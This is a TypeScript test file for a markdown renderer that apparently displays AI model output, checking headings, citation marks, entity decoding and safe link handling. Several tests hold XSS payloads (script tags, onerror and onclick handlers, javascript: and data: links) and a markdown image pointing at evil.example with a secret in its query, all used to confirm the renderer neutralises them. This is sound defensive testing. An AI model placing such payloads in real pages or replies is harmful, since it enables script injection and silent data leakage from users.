import { lexer } from "marked";
import { describe, expect, it } from "vitest";
import { readMarks } from "./citation-marks.js";
import { readMarkdown, type Content } from "./markdown.js";

const read = (text: string): readonly Content[] => readMarkdown(lexer(text), readMarks);

/** Every piece of a tree, and every attribute of one. */
function pieces(contents: readonly Content[]): { tag: string; attributes: object }[] {
  return contents.flatMap((content) =>
    typeof content === "object" && "tag" in content
      ? [{ tag: content.tag, attributes: content.attributes ?? {} }, ...pieces(content.children)]
      : [],
  );
}

function textOf(contents: readonly Content[]): string {
  return contents
    .map((content) => {
      if (typeof content === "string") return content;
      return "mark" in content ? `{${content.mark}}` : textOf(content.children);
    })
    .join("");
}

describe("readMarkdown", () => {
  it("reads what models and documents are made of", () => {
    const tags = pieces(
      read(
        "# A\n\nb **c** *d* ~~e~~ `f`  \ng\n\n> h\n\n1. i\n\n- j\n\n---\n\n```js\nk\n```\n\n|l|m|\n|-|-:|\n|n|o|",
      ),
    ).map(({ tag }) => tag);
    expect(new Set(tags)).toEqual(
      new Set(
        "h3 p strong em del code br blockquote ol ul li hr pre div table thead tbody tr th td".split(
          " ",
        ),
      ),
    );
  });

  it("leaves the first two levels of headings to the page", () => {
    expect(pieces(read("# a\n\n## b\n\n###### c")).map(({ tag }) => tag)).toEqual([
      "h3",
      "h4",
      "h6",
    ]);
  });

  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a <b onclick=alert(1)>b</b>",
    "<iframe src='https://evil.example'></iframe>\n\nc",
    "<svg><script>1</script></svg>",
  ])("[app/csp] keeps the markup in %j as text", (text) => {
    const tree = read(text);
    expect(pieces(tree).filter(({ tag }) => tag !== "p")).toEqual([]);
    expect(textOf(tree)).toContain(text.split("\n")[0]);
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "[x](/auth/sign-in)",
    "[x](//evil.example)",
    "[x](vbscript:x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
  ])("makes no link of %j", (text) => {
    expect(pieces(read(text)).map(({ tag }) => tag)).toEqual(["p"]);
  });

  it("opens a link to the web in another tab that knows nothing of this one", () => {
    expect(pieces(read("[x](https://example.com/a)")).at(-1)).toEqual({
      tag: "a",
      attributes: {
        href: "https://example.com/a",
        target: "_blank",
        rel: "noopener noreferrer",
      },
    });
  });

  it("asks no server for a picture", () => {
    const tree = read("![the plan](https://evil.example/?q=secret)");
    expect(pieces(tree).map(({ tag }) => tag)).toEqual(["p"]);
    expect(textOf(tree)).toBe("the plan");
  });

  it("finds marks wherever words are, and nowhere else", () => {
    expect(textOf(read("a **b [doc1]** [doc2][doc3]\n\n- c [doc12]\n\n`[doc4]`"))).toBe(
      "a b {1} {2}{3}c {12}[doc4]",
    );
  });

  it("decodes the entities that models write", () => {
    expect(textOf(read("a &amp; b &lt;c&gt; &#8364; &unknown;"))).toBe("a & b <c> € &unknown;");
  });
});
